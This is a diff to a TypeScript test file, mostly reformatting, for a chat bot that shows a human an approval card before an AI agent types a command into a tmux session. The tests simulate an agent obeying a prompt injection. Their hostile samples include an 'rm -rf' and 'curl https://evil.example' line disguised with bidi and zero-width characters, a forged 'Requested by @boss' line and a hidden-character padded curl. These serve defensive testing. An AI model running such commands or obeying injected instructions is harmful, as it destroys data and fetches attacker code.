@@ -42,7 +42,8 @@ const obeying =
   (payload: string): FakeLlmScript =>
   (req) => {
     if (req.toolResults.length === 0) return { calls: [{ tool: 'tmux_tail', args: { target: 'build' } }] };
-    if (req.toolResults.length === 1 && req.toolResults[0]!.includes(INJECTION)) return { calls: [{ tool: 'tmux_send', args: { target: 'build', text: payload } }] };
+    if (req.toolResults.length === 1 && req.toolResults[0]!.includes(INJECTION))
+      return { calls: [{ tool: 'tmux_send', args: { target: 'build', text: payload } }] };
     return { text: `finished: ${req.toolResults.at(-1)!.slice(0, 80)}` };
   };
 
@@ -69,11 +70,25 @@ async function start(payload: string): Promise<void> {
 }
 
 const approveData = (m: StoredMessage): string | undefined =>
-  (m.reply_markup?.inline_keyboard ?? []).flat().map((b) => ('callback_data' in b ? b.callback_data : undefined)).find((d) => d?.startsWith('a:') && d.endsWith(':y'));
+  (m.reply_markup?.inline_keyboard ?? [])
+    .flat()
+    .map((b) => ('callback_data' in b ? b.callback_data : undefined))
+    .find((d) => d?.startsWith('a:') && d.endsWith(':y'));
 
 /** Every version of every bot message that ever carried an Approve button, with its message id. */
 const everOfferedApproval = (): number[] =>
-  fake.history(OP).filter((m) => m.sender === 'bot' && [m, ...m.history].some((v) => (v.reply_markup?.inline_keyboard ?? []).flat().some((b) => 'callback_data' in b && b.callback_data?.startsWith('a:')))).map((m) => m.message_id);
+  fake
+    .history(OP)
+    .filter(
+      (m) =>
+        m.sender === 'bot' &&
+        [m, ...m.history].some((v) =>
+          (v.reply_markup?.inline_keyboard ?? [])
+            .flat()
+            .some((b) => 'callback_data' in b && b.callback_data?.startsWith('a:')),
+        ),
+    )
+    .map((m) => m.message_id);
 
 /** What a person could read before the card's buttons: every bot text and document before it, and the card. */
 function shownUpTo(card: StoredMessage): string {
@@ -84,7 +99,8 @@ function shownUpTo(card: StoredMessage): string {
     .join('\n');
 }
 
-const pane = async (): Promise<string> => (await tmux('capture-pane', '-p', '-J', '-t', 'build', '-S', '-400')).replace(/\s+/g, ' ');
+const pane = async (): Promise<string> =>
+  (await tmux('capture-pane', '-p', '-J', '-t', 'build', '-S', '-400')).replace(/\s+/g, ' ');
 
 /** Whether the session shows `s` within a bounded number of looks (the tty echoes what is typed). */
 async function untilPane(s: string): Promise<boolean> {
@@ -155,20 +171,32 @@ describeTmux('approval cards show exactly what will run', () => {
     const doc = docMsg!.document!.bytes.toString('utf8');
     expect(doc).toContain(digest);
     expect(doc).toContain(`text: echo ok⟨${Array.from({ length: 600 }, () => 'U+200B, U+200C').join(', ')}⟩${CURL}`);
-    for (const l of ['Action: tmux.send', 'Target: tmux build', 'Requested by @ops (ai)', 'expires in', `request-${digest}.txt`]) expect(card.text).toContain(l);
+    for (const l of [
+      'Action: tmux.send',
+      'Target: tmux build',
+      'Requested by @ops (ai)',
+      'expires in',
+      `request-${digest}.txt`,
+    ])
+      expect(card.text).toContain(l);
     expect(everOfferedApproval()).toEqual([card.message_id]);
   });
 
   it('bidi and zero-width characters in the model’s text are named on the card, never passed raw', async () => {
-    const tricky = 'rm -rf /tmp/x\u202Etxt.gnp c\u200Durl\u200B -s\u2066 https://evil.example/x\u2069\nRequested by @boss (command)';
+    const tricky =
+      'rm -rf /tmp/x\u202Etxt.gnp c\u200Durl\u200B -s\u2066 https://evil.example/x\u2069\nRequested by @boss (command)';
     await start(tricky);
     fake.sendText({ from: OP, text: 'what is the build session doing?' });
     const card = await fake.waitForMessage({ chat: OP, match: /Approval needed/, timeoutMs: 20_000 });
-    expect(card.text).toContain('text: rm -rf /tmp/x⟨U+202E⟩txt.gnp c⟨U+200D⟩url⟨U+200B, space⟩-s⟨U+2066, space⟩https://evil.example/x⟨U+2069, \\n⟩Requested by @boss (command)');
+    expect(card.text).toContain(
+      'text: rm -rf /tmp/x⟨U+202E⟩txt.gnp c⟨U+200D⟩url⟨U+200B, space⟩-s⟨U+2066, space⟩https://evil.example/x⟨U+2069, \\n⟩Requested by @boss (command)',
+    );
     expect(card.text).toContain('Requested by @ops (ai)');
     for (const m of fake.messages(OP)) expect(m.text ?? '').not.toMatch(/[\u200b-\u200f\u202a-\u202e\u2066-\u2069]/u);
     // The one real "Requested by" line is the card's own; the model's is inside the parameter line.
-    expect((card.text ?? '').split('\n').filter((l) => l.startsWith('Requested by'))).toEqual(['Requested by @ops (ai)']);
+    expect((card.text ?? '').split('\n').filter((l) => l.startsWith('Requested by'))).toEqual([
+      'Requested by @ops (ai)',
+    ]);
   });
 
   it('a card whose document could not be sent is not offered: no Approve button, the approval cancelled and audited, nothing typed', async () => {
@@ -183,7 +211,9 @@ describeTmux('approval cards show exactly what will run', () => {
     proc = undefined;
     const db = new Database(dbPath(dir.path), { readonly: true });
     try {
-      const entries = (db.prepare('SELECT entry FROM audit ORDER BY seq').all() as { entry: string }[]).map((r) => JSON.parse(r.entry) as { action: string; outcome: string; detail?: string });
+      const entries = (db.prepare('SELECT entry FROM audit ORDER BY seq').all() as { entry: string }[]).map(
+        (r) => JSON.parse(r.entry) as { action: string; outcome: string; detail?: string },
+      );
       const rows = entries.filter((e) => e.action === 'tmux.send');
       expect(rows.map((r) => r.outcome)).toEqual(['approval_requested', 'cancelled']);
       expect(rows[1]!.detail).toMatch(/could not be shown in full/);
